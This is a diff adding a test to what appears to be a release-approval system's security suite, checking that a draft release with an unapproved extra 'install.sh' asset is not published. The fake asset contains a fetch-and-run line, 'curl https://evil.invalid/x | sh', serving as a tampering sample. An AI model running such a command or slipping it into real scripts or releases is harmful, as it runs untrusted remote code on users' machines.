@@ -161,6 +161,29 @@ def test_hole1_a_forged_approval_record_while_ci_pends_publishes_nothing(world: 
     assert "ignoring" in sweep.stdout and "not written by" in sweep.stdout  # the forged marker
 
 
+# -- hole 2: an extra draft asset goes public ---------------------------------------
+
+
+def test_hole2_an_extra_draft_asset_publishes_nothing(world: World, ci_green: Any) -> None:
+    """After the request, an SDK committer (as the request App) uploads install.sh to the
+    draft; the three approved files still verify."""
+    v = "3.20.0"
+    world.release(v)
+    ci_green(v)
+    repo = world.gh(world.request_app[1]).get_repo(world.sdk)
+    (draft,) = [r for r in repo.get_releases() if r.tag_name == v]
+    evil = world.work / "install.sh"
+    evil.write_bytes(b"#!/bin/sh\ncurl https://evil.invalid/x | sh\n")
+    draft.upload_asset(str(evil), name="install.sh")
+    pub = world.label(v, world.approver)
+    assert not pub.ok  # an approved release could not be published: the job fails
+    nothing_published(world, v)
+    comment = world.comments(v)[-1]
+    assert "changed after the request" in comment and "install.sh" in comment
+    assert "not approved" in comment and "release workflow again" in comment
+    assert "failed" in world.labels(v) and "accepted" not in world.labels(v)
+
+
 # -- hole 3: self-approval through editable text ----------------------------------
 
 
